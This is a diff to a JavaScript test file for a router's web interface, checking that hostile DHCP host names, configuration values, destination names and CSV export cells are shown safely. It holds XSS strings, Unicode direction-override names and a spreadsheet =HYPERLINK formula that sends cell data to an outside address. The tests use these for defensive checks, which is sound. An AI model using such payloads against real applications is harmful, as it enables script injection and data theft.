@@ -2,22 +2,29 @@
 
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { begin, faults, flow } from '../kit/setup.mjs';
+import { BASIC, begin, faults, flow } from '../kit/setup.mjs';
 import { CAMERA, ask, send, until } from '../kit/home.mjs';
 
 /* No name in a lease has white space; HTML needs none. */
 const LEASED = '<img/src=x/onerror=alert(1)>"\'><svg/onload=alert(2)>\u202egpj.exe\u202c&lt;b&gt;%s';
+/* What somebody typed into the configuration is no better. */
+const TYPED = '<img src=x onerror=alert(5)>"<b>';
+const SECTION = `
+config device
+\toption mac 'b8:27:eb:00:00:02'
+\toption name '${TYPED}'
+`;
 const LONG = 'ä'.repeat(127) + 'x';
 const NAMES = [
 	'<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '\u202etxt.evil\u2066', 'javascript:alert(3)', '&lt;i&gt;', LONG, '%s %d %h', "'; DROP"
 ];
-const PAGES = [ 'overview', 'pending', 'flows', 'devices', 'activity' ];
+const PAGES = [ 'overview', 'pending', 'flows', 'devices', 'activity', 'settings' ];
 
 let home;
 
 before(async () => {
 	assert.equal(Buffer.byteLength(LONG), 255);
-	home = await begin({ leases: `4102444800 ${CAMERA} 192.168.1.10 ${LEASED} *\n` });
+	home = await begin({ config: BASIC + SECTION, leases: `4102444800 ${CAMERA} 192.168.1.10 ${LEASED} *\n` });
 	await send('udp', 7001);
 	await until('the daemon knows the leased name', async () => (await ask('flow_list')).flows.some((f) => f.device === LEASED));
 });
@@ -52,12 +59,15 @@ async function shown(page, name) {
 	assert.doesNotMatch(await page.locator('#view').textContent(), /[\u202a-\u202e\u2066-\u2069]/, 'nothing turns the text around it');
 }
 
+const PHONE = { width: 375, height: 812 };
 const fits = (page) => page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1);
 
 test('a host name from a DHCP lease is text on every page', async () => {
 	for (const name of PAGES) {
 		const page = await home.browser.open(home.router, name);
-		if (name !== 'overview')
+		if (name === 'settings')
+			assert.equal(await page.locator('#cbi-glacic-device [data-name=name] input:not([type=hidden])').first().inputValue(), TYPED);
+		else if (name !== 'overview')
 			await shown(page, LEASED);
 		await clean(page, name);
 		await page.context().close();
@@ -65,7 +75,7 @@ test('a host name from a DHCP lease is text on every page', async () => {
 });
 
 test('a host name of 255 bytes wraps, also on a phone', async () => {
-	const page = await home.browser.open(home.router, 'pending', { viewport: { width: 390, height: 844 } });
+	const page = await home.browser.open(home.router, 'pending', { viewport: PHONE });
 
 	home.router.replies.set('flow_list', async () => {
 		const { flows, total } = await ask('flow_list', { filter: { state: 'pending' } });
@@ -116,7 +126,7 @@ test('names of destinations (recorded replies) are text, in lists, details and f
 	home.router.replies.set('flow_list', () => ({ flows: [ hostile ], total: 1 }));
 	home.router.replies.set('flow_get', () => hostile);
 	for (const name of [ 'pending', 'flows' ]) {
-		const page = await home.browser.open(home.router, name, { viewport: { width: 390, height: 844 } });
+		const page = await home.browser.open(home.router, name, { viewport: PHONE });
 		if (name === 'flows') {
 			await page.getByRole('button', { name: /^Details/ }).click();
 			for (const text of NAMES)
@@ -134,7 +144,7 @@ test('an exported file cannot run in a spreadsheet', async () => {
 	const formula = '=HYPERLINK("http://203.0.113.10/?"&A1,"x")';
 	const one = await flow('the denied flow', (f) => f.port === 7001);
 
-	home.router.replies.set('flow_list', () => ({ flows: [ { ...one, device: formula, vendor: '+1', service: ' @SUM(1)', names: [ { name: '-2+3' } ] } ], total: 1 }));
+	home.router.replies.set('flow_list', () => ({ flows: [ { ...one, device: formula, vendor: '+1', service: ' @SUM(1)', zone: '\u200b\uff1d1', app: '\t-1', names: [ { name: '-2+3' } ] } ], total: 1 }));
 	const page = await home.browser.open(home.router, 'flows');
 	const [ download ] = await Promise.all([ page.waitForEvent('download'), page.getByRole('button', { name: 'Save as CSV' }).click() ]);
 	const pieces = [];
@@ -144,7 +154,7 @@ test('an exported file cannot run in a spreadsheet', async () => {
 
 	assert.match(download.suggestedFilename(), /^glacic-flows-\d{4}-\d\d-\d\d\.csv$/);
 	assert.equal(lines.length, 3);
-	for (const cell of [ `"'=HYPERLINK(""http://203.0.113.10/?""&A1,""x"")"`, `"'+1"`, `"' @SUM(1)"`, `"'-2+3"` ])
+	for (const cell of [ `"'=HYPERLINK(""http://203.0.113.10/?""&A1,""x"")"`, `"'+1"`, `"' @SUM(1)"`, `"'-2+3"`, `"'\u200b\uff1d1"`, `"'\t-1"` ])
 		assert.ok(lines[1].includes(cell), `${cell} in ${lines[1]}`);
 	for (const cell of lines[1].match(/"(?:[^"]|"")*"/g))
 		assert.doesNotMatch(cell, /^"\s*[=+\-@\t\r]/);
